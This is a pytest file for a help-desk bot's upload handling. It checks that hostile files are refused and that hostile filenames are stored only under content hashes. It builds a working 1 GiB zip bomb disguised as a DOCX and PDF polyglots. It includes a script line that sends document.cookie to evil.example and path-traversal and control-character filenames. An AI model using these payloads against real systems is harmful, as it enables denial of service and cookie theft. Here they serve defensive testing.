"""Hostile files at the two places the assistant takes files (issue 6, item 5).

Every file is built here. Each one is sent at the resolution step of the access request (a
PDF is required) and as a consulta attachment (PDF, PNG, JPG, DOCX, XLSX allowed), through
the user driver; the over-limit and hostile-name cases also go through Telegram with the fake
Bot API, so the adapter's handling is covered too.

A hostile file is refused with its own message and the step asks again, storing nothing; or,
when its content is fine and only its name is hostile, it is stored once under its hash
(``<data>/files/ab/cd/<sha256>``) and the sender's name is never used as a path. After every
case nothing exists under ``tmp_path`` outside the data directory that was not there before.
"""

from __future__ import annotations

import hashlib
import io
import json
import struct
import tracemalloc
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from pypdf import PdfWriter

from bot.domain import files
from bot.settings import Settings
from bot.texts import Texts
from conversations.state import State
from tests.bot.conftest import Starter
from tests.driver import Driver, MemoryMailer
from tests.fakes.telegram_api import FakeBotAPI, FakeUser
from tests.walks import DESCRIPTION, PDF, make_pdf, tiny_png, to_attachments, to_step, who_asks

TEXTS = Texts()
GIB = 1 << 30
MIB = 1 << 20
RESOLUTION_QUESTION = "Envíame la resolución en PDF"


# --- builders ---------------------------------------------------------------------------------


def encrypted_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt(user_password="", owner_password="dueño")  # opens without a password
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


DOCX_TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'content-types"><Override PartName="/word/document.xml" ContentType="application/'
    b'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)


def _local_header(name: bytes, crc: int, packed: int, size: int, method: int) -> bytes:
    return struct.pack(
        "<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0x21, crc, packed, size, len(name), 0
    )


def _central_entry(
    name: bytes, crc: int, packed: int, size: int, method: int, offset: int
) -> bytes:
    return struct.pack(
        "<IHHHHHHIIIHHHHHII",
        0x02014B50,
        20,
        20,
        0,
        method,
        0,
        0x21,
        crc,
        packed,
        size,
        len(name),
        0,
        0,
        0,
        0,
        0,
        offset,
    )


def zip_bomb_docx(declared: int = GIB) -> bytes:
    """A real DOCX-shaped zip whose document part inflates to ``declared`` bytes of zeros.

    Built without ever holding the inflated bytes: one 1 MiB block of zeros is deflated once,
    ended by a full flush (so it stands alone), and repeated; an empty final block closes the
    stream. The CRC is computed over the same 1 MiB block, ``declared / 1 MiB`` times.
    """
    assert declared % MIB == 0
    zeros = bytes(MIB)
    block_compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = block_compressor.compress(zeros) + block_compressor.flush(zlib.Z_FULL_FLUSH)
    final = zlib.compressobj(9, zlib.DEFLATED, -15).flush(zlib.Z_FINISH)
    repeats = declared // MIB
    stream = block * repeats + final
    crc = 0
    for _ in range(repeats):
        crc = zlib.crc32(zeros, crc)

    out = io.BytesIO()
    central = b""
    parts = [
        (b"[Content_Types].xml", DOCX_TYPES, zlib.crc32(DOCX_TYPES), len(DOCX_TYPES), 0),
        (b"word/document.xml", stream, crc, declared, 8),
    ]
    for name, data, part_crc, size, method in parts:
        offset = out.tell()
        out.write(_local_header(name, part_crc, len(data), size, method) + name + data)
        central += _central_entry(name, part_crc, len(data), size, method, offset) + name
    start = out.tell()
    out.write(central)
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 2, 2, len(central), start, 0))
    return out.getvalue()


def small_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("payload.js", "app.alert('polyglot')")
    return out.getvalue()


ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00" + bytes(44)
MZ = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(48) + b"This program"
HTML_JS = b"<html><body><script>fetch('https://evil.example/'+document.cookie)</script>"
BOMB = zip_bomb_docx()


@dataclass(frozen=True)
class Hostile:
    id: str
    content: bytes
    name: str
    refusal: str  # the code the file is refused with, anywhere


HOSTILE = [
    Hostile("elf-named-pdf", ELF, "resolucion.pdf", "file_type_not_allowed"),
    Hostile("exe-named-pdf", MZ, "resolucion.pdf", "file_type_not_allowed"),
    Hostile("exe-then-pdf", MZ + PDF, "resolucion.pdf", "file_type_not_allowed"),
    Hostile("truncated-pdf", PDF[: len(PDF) // 2], "resolucion.pdf", "pdf_damaged"),
    Hostile("encrypted-pdf", encrypted_pdf(), "resolucion.pdf", "pdf_encrypted"),
    Hostile("zero-bytes", b"", "resolucion.pdf", "file_empty"),
    Hostile("zip-bomb-docx", BOMB, "informe.docx", "file_suspicious"),
    Hostile("pdf-zip-polyglot", PDF + small_zip(), "resolucion.pdf", "file_suspicious"),
    Hostile("pdf-html-js-polyglot", PDF + HTML_JS, "resolucion.pdf", "file_suspicious"),
    Hostile("html-named-pdf", HTML_JS, "resolucion.pdf", "file_type_not_allowed"),
]

HOSTILE_NAMES = [
    "../../../../tmp/evil.pdf",
    "..\\..\\..\\evil.pdf",
    "/etc/passwd",
    "C:\\Windows\\evil.pdf",
    "evil\x00.pdf",
    "\x1b[2J\x07\r\nevil.pdf",
    "\u202efdp.exe",
    "CON.pdf",
    "..",
    "",
    "e" * 10_000 + ".pdf",
]


# --- helpers ----------------------------------------------------------------------------------


def tree(root: Path) -> set[Path]:
    return {path for path in root.rglob("*")}


def assert_only_under(new: set[Path], data_dir: Path) -> None:
    outside = [p for p in new if not p.is_relative_to(data_dir)]
    assert outside == [], f"written outside the data dir: {outside}"
    assert not [p for p in new if "evil" in str(p)], "a sender's name became a path"
    assert not [p for p in new if p.name.startswith(".tmp-")], "a temporary file was left"


def stored_files(new: set[Path], data_dir: Path) -> list[Path]:
    return [p for p in new if p.is_file() and p.is_relative_to(data_dir / "files")]


def assert_stored_by_hash(path: Path, data_dir: Path, content: bytes) -> None:
    sha = hashlib.sha256(content).hexdigest()
    assert path == data_dir / "files" / sha[:2] / sha[2:4] / sha
    assert path.read_bytes() == content


async def frame_data(user: Driver) -> tuple[str, str, dict[str, Any]]:
    async with user.app.store.reading() as conn:
        rows = list(
            await conn.execute_fetchall(
                "SELECT c.state FROM conversations c JOIN chat_identities ci"
                " ON ci.id = c.identity_id WHERE ci.external_id = ?",
                (user.chat_id,),
            )
        )
    frame = State.from_json(rows[0][0]).frame
    assert frame is not None
    return frame.flow, frame.step, frame.data


@pytest.fixture
def fetched(user: Driver) -> list[str]:
    """Which file ids the app downloaded (the channel's fetch, recorded at the leaf)."""
    calls: list[str] = []

    async def fetch(file_id: str) -> bytes:
        calls.append(file_id)
        return user.files[file_id]

    user._fetch = fetch  # type: ignore[method-assign]
    return calls


def test_the_zip_bomb_is_real() -> None:
    """What the app must not do: a streaming reader inflates it, 1 GiB of zeros declared."""
    archive = zipfile.ZipFile(io.BytesIO(BOMB))
    info = archive.getinfo("word/document.xml")
    assert info.file_size == GIB
    assert len(BOMB) < 2 * MIB
    with archive.open(info) as part:
        assert part.read(MIB) == bytes(MIB)
    assert files.inspect(BOMB).detected == "zip_bomb"


# --- at the resolution step -------------------------------------------------------------------


@pytest.mark.parametrize("hostile", HOSTILE, ids=[h.id for h in HOSTILE])
async def test_hostile_resolution_is_refused_and_asked_again(
    hostile: Hostile, user: Driver, mailer: MemoryMailer, tmp_path: Path, settings: Settings
) -> None:
    await to_step(user, mailer, "res_pdf")
    before = tree(tmp_path)
    tracemalloc.start()
    try:
        replies = await user.upload(hostile.content, name=hostile.name)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 64 * MIB, f"{peak / MIB:.0f} MiB allocated: something was inflated"
    refusal, again = replies
    assert refusal.plain == TEXTS.plain(f"errors.{hostile.refusal}", {})
    assert RESOLUTION_QUESTION in again.plain
    assert again.progress == (13, 16)
    flow, step, data = await frame_data(user)
    assert (flow, step) == ("solicitud", "res_pdf")
    assert "pdf" not in data.get("res", {})
    new = tree(tmp_path) - before
    assert_only_under(new, settings.data_dir)
    assert stored_files(new, settings.data_dir) == []


async def test_resolution_over_the_limit_is_refused_before_download(
    user: Driver, mailer: MemoryMailer, fetched: list[str], settings: Settings, tmp_path: Path
) -> None:
    await to_step(user, mailer, "res_pdf")
    before = tree(tmp_path)
    refusal, again = await user.upload(PDF, size=files.MAX_DOWNLOAD_BYTES + 1)
    assert refusal.plain == TEXTS.plain("errors.file_too_big", {})
    assert RESOLUTION_QUESTION in again.plain
    assert fetched == []
    assert stored_files(tree(tmp_path) - before, settings.data_dir) == []
    # Exactly at the limit it is downloaded (and judged by its content).
    await user.upload(PDF, size=files.MAX_DOWNLOAD_BYTES)
    assert len(fetched) == 1


@pytest.mark.parametrize("name", HOSTILE_NAMES, ids=range(len(HOSTILE_NAMES)))
async def test_resolution_with_a_hostile_name_is_stored_under_its_hash(
    name: str, user: Driver, mailer: MemoryMailer, tmp_path: Path, settings: Settings
) -> None:
    await to_step(user, mailer, "res_pdf")
    before = tree(tmp_path)
    [profiles] = await user.upload(PDF, name=name)
    assert profiles.progress == (14, 16)
    new = tree(tmp_path) - before
    assert_only_under(new, settings.data_dir)
    [stored] = stored_files(new, settings.data_dir)
    assert_stored_by_hash(stored, settings.data_dir, PDF)

    # The help desk's mail names the resolution after the ticket, never after the sender.
    await user.tap("btn.no")
    await user.tap("btn.me")
    await user.tap("btn.confirm_send")
    names = [a.get_filename() for a in mailer.sent[-1].iter_attachments()]
    assert names == ["Resolucion_PTE-2026-000001.pdf", "Formato_Perfiles_PTE-2026-000001.xlsx"]
    async with user.app.store.reading() as conn:
        rows = await conn.execute_fetchall("SELECT filename FROM ticket_files")
    assert sorted(r[0] for r in rows) == sorted(names)
    assert_only_under(tree(tmp_path) - before, settings.data_dir)


# --- as consulta attachments ------------------------------------------------------------------


@pytest.mark.parametrize("hostile", HOSTILE, ids=[h.id for h in HOSTILE])
async def test_hostile_attachment_is_refused_and_not_counted(
    hostile: Hostile, user: Driver, mailer: MemoryMailer, tmp_path: Path, settings: Settings
) -> None:
    await to_attachments(user)
    before = tree(tmp_path)
    tracemalloc.start()
    try:
        [refusal] = await user.upload(hostile.content, name=hostile.name, mime=None)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 64 * MIB, f"{peak / MIB:.0f} MiB allocated: something was inflated"
    assert refusal.plain == TEXTS.plain(f"errors.attachment_{hostile.refusal}", {})
    flow, step, data = await frame_data(user)
    assert (flow, step) == ("consulta", "adjuntos")
    assert data.get("files", []) == []
    new = tree(tmp_path) - before
    assert_only_under(new, settings.data_dir)
    assert stored_files(new, settings.data_dir) == []
    await user.tap("btn.done")
    summary = (await who_asks(user, mailer))[-1].plain
    assert "Adjuntos: 0" in summary


async def test_attachment_over_the_limit_is_refused_before_download(
    user: Driver, fetched: list[str]
) -> None:
    await to_attachments(user)
    [refusal] = await user.upload(tiny_png(), name="captura.png", size=10**12)
    assert refusal.plain == TEXTS.plain("errors.attachment_file_too_big", {})
    assert fetched == []


@pytest.mark.parametrize("name", HOSTILE_NAMES, ids=range(len(HOSTILE_NAMES)))
async def test_attachment_with_a_hostile_name_is_stored_under_its_hash(
    name: str, user: Driver, mailer: MemoryMailer, tmp_path: Path, settings: Settings
) -> None:
    await to_attachments(user)
    before = tree(tmp_path)
    png = tiny_png()
    [received] = await user.upload(png, name=name, mime="image/png")
    assert received.key == "consulta.recibido"
    assert received.data["count"] == 1
    assert received.data["max"] == 10
    new = tree(tmp_path) - before
    assert_only_under(new, settings.data_dir)
    [stored] = stored_files(new, settings.data_dir)
    assert_stored_by_hash(stored, settings.data_dir, png)
    await user.tap("btn.done")
    await who_asks(user, mailer)
    await user.tap("btn.confirm_send")
    names = [a.get_filename() for a in mailer.sent[-1].iter_attachments()]
    assert names == ["Adjunto_01_PTE-2026-000001.png"]
    assert_only_under(tree(tmp_path) - before, settings.data_dir)


# --- through Telegram -------------------------------------------------------------------------


async def telegram_consulta(user: FakeUser) -> None:
    await user.say("/start")
    await user.press("Acepto")
    await user.press("Hacer una consulta")
    await user.say("20131312955")
    await user.say("Municipalidad de Prueba")
    await user.press("Presupuesto")
    [question] = await user.say(DESCRIPTION)
    assert question.button_labels == ["✅ Listo"], str(question)


def fetched_ids(api: FakeBotAPI) -> list[str]:
    return [str(c.params.get("file_id")) for c in api.calls_to("getFile")]


class TestTelegram:
    @pytest.fixture
    def settings(self, tmp_path: Path, api: FakeBotAPI) -> Settings:
        return Settings(  # type: ignore[call-arg]
            data_dir=tmp_path / "data",
            telegram_bot_token=api.token,
            telegram_base_url=api.base_url,
            telegram_base_file_url=api.base_file_url,
            _env_file=None,
        )

    async def test_over_limit_is_not_downloaded_and_hostile_names_are_stored_by_hash(
        self, api: FakeBotAPI, start_bot: Starter, settings: Settings, tmp_path: Path
    ) -> None:
        await start_bot()
        ana = api.user(7301, first_name="Ana")
        await telegram_consulta(ana)
        before = tree(tmp_path)

        update = await ana.send_document(PDF, "grande.pdf", file_size=25 * MIB)
        [refusal] = await ana.expect(1)
        assert refusal.text == TEXTS.plain("errors.attachment_file_too_big", {})
        big = update["message"]["document"]["file_id"]
        assert big not in fetched_ids(api)

        contents = []
        names = [n for n in HOSTILE_NAMES if n]  # Telegram always sends some name
        for i, name in enumerate(names):
            content = make_pdf(i + 1)  # a distinct file each time
            contents.append(content)
            await ana.send_document(content, name)
            [received] = await ana.expect(1)
            assert f"Recibido ({i + 1} de 10)" in received.text, str(received)
        assert len(fetched_ids(api)) == len(names)
        new = tree(tmp_path) - before
        assert_only_under(new, settings.data_dir)
        assert len(stored_files(new, settings.data_dir)) == len(contents)
        for content in contents:
            sha = hashlib.sha256(content).hexdigest()
            path = settings.data_dir / "files" / sha[:2] / sha[2:4] / sha
            assert_stored_by_hash(path, settings.data_dir, content)
        bad = [c for c in api.calls if c.status not in (0, 200) and c.method != "getUpdates"]
        assert bad == []


def test_hostile_cases_cover_the_brief() -> None:
    ids = {h.id for h in HOSTILE}
    assert {"elf-named-pdf", "truncated-pdf", "encrypted-pdf", "zero-bytes"} <= ids
    assert {"zip-bomb-docx", "pdf-zip-polyglot", "pdf-html-js-polyglot"} <= ids
    assert json.dumps(HOSTILE_NAMES)  # every name survives JSON (NUL included)
